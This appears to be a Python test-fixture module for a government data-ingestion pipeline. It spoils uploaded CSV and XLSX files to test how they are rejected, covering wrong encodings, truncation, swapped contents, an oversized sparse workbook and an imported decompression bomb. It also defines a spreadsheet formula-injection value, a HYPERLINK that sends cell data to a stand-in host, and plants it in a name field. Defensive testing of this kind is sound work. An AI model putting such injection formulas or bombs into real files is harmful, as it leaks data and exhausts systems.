"""A round's landing as careless clerks send it: one slip for each of a dozen files, and what is to come of it.

Belongs here: spoiling landed files, and the verdict on each, written by hand. Does not belong here: running anything.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from tests.corpus.hostile import ratio_bomb
from tests.corpus.making import book_of, package_of
from tests.town import LANDED, PLANTED, PUBLISHED

#: A name that a spreadsheet would take for a formula, and the beginning by which it is found again.
INJECTED = f'=HYPERLINK("http://127.0.0.1/?"&A1,"{PLANTED["name"]}")'


@dataclass(frozen=True)
class Slip:
    """One file that went wrong. ``file`` is its name under ``department``, ``extract`` what it should have been;
    ``words`` stand in the message to its sender. ``spoil`` is given the landed file and the same extract's file of the
    quarter before, and returns the bytes that are sent."""

    department: str
    file: str
    extract: str
    reason_code: str
    words: tuple[str, ...]
    spoil: Callable[[bytes, bytes], bytes]


def _table(content: bytes, encoding: str = "gb18030") -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode(encoding), newline="")))


def _csv(table: list[list[str]], encoding: str = "gb18030") -> bytes:
    out = io.StringIO(newline="")
    csv.writer(out).writerows(table)
    return out.getvalue().encode(encoding)


def _as_workbook(content: bytes, _: bytes) -> bytes:
    return book_of(_table(content), "Sheet1")


def _as_web_page(_: bytes, __: bytes) -> bytes:
    cells = "".join(f"<td>{value}</td>" for value in PLANTED.values())
    return f"<html><meta charset=gbk><table><tr>{cells}</tr></table></html>".encode("gb18030")


def _as_utf_8(content: bytes, _: bytes) -> bytes:
    return content.decode("gb18030").encode("utf-8")


def _without_first_column(content: bytes, _: bytes) -> bytes:
    return _csv([row[1:] for row in _table(content, "utf-8")], "utf-8")


def _last_quarters(_: bytes, earlier: bytes) -> bytes:
    return earlier


def _cut_off(content: bytes, _: bytes) -> bytes:
    return content[: len(content) // 2]


def _sparse(_: bytes, __: bytes) -> bytes:
    cells = '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row>'
    return package_of("严重精神障碍服务", cells)


def _expanding(_: bytes, __: bytes) -> bytes:
    return ratio_bomb()


#: Files that are refused whole.
REFUSED = (
    Slip("fire", "火灾_2015Q4.csv", "fire.fires", "wrong_format", ("工作簿", "Excel"), _as_workbook),
    Slip("justice", "人民调解_2015Q4.xls", "justice.mediations", "wrong_format", ("网页", "HTML"), _as_web_page),
    Slip("police", "案件_201511.csv", "police.cases", "undecodable", ("gb18030", "utf-8"), _as_utf_8),
    Slip(
        "civil_affairs", "社会救助_2015Q4.csv", "civil_affairs.assistance", "missing_column", ("发放编号",),
        _without_first_column,
    ),
    Slip("police", "交通事故_2015Q4.csv", "police.traffic_accidents", "wrong_period", ("2015Q4",), _last_quarters),
    Slip("justice", "社区矫正_2015Q4.xlsx", "justice.community_corrections", "unreadable", ("重新导出",), _cut_off),
    Slip(
        "health", "严重精神障碍服务_2015Q4.xlsx", "health.mental_disorder_services", "resource_limit",
        ("1,048,576",), _sparse,
    ),
    Slip(
        "youth_league", "青少年服务_2015Q4.xlsx", "youth_league.youth_services", "resource_limit", ("512 MB",),
        _expanding,
    ),
)  # fmt: skip
#: Departments that put each other's content under their own names, the extract of each.
EXCHANGED = {
    "labour/就业登记_2015Q4.csv": "labour.employment",
    "family_planning/计生服务_2015Q4.csv": "family_planning.services",
}
#: A list whose transfer broke off in the midst of a row, and a log with names that a spreadsheet would compute.
BROKEN_OFF = "social_security/社保缴费_2015Q4.csv"
WITH_FORMULA = "drug_control/电子访问日志_2015Q4.csv"


def spoil(landing: Path) -> None:
    """Put every slip into the landed files of the round."""
    now, before = landing / LANDED, landing / PUBLISHED
    for slip in REFUSED:
        (landed,) = (now / slip.department).glob(f"{Path(slip.file).stem}.*")
        earlier = next((before / slip.department).glob(f"{Path(slip.file).stem.split('_')[0]}_*"))
        content = slip.spoil(landed.read_bytes(), earlier.read_bytes())
        landed.unlink()
        landed.with_name(slip.file).write_bytes(content)
    one, other = (now / path for path in EXCHANGED)
    contents = one.read_bytes(), other.read_bytes()
    other.write_bytes(contents[0])
    one.write_bytes(contents[1])
    broken_off = (now / BROKEN_OFF).read_bytes()
    (now / BROKEN_OFF).write_bytes(broken_off[: broken_off.index(b",", len(broken_off) // 2)])
    (now / WITH_FORMULA).write_bytes(_with_formula((now / WITH_FORMULA).read_bytes()))


def _with_formula(content: bytes) -> bytes:
    """A row more that is accepted and one that is not, both with a formula in place of a name."""
    header, *rows = _table(content)
    name, number, day = (header.index(column) for column in ("姓名", "访问编号", "访问日期"))
    for place, (visit, date) in enumerate((("W20154900001", rows[0][day]), ("W20154900002", "2015-02-30"))):
        row = list(rows[place])
        row[name], row[number], row[day] = INJECTED, visit, date
        rows.append(row)
    return _csv([header, *rows])
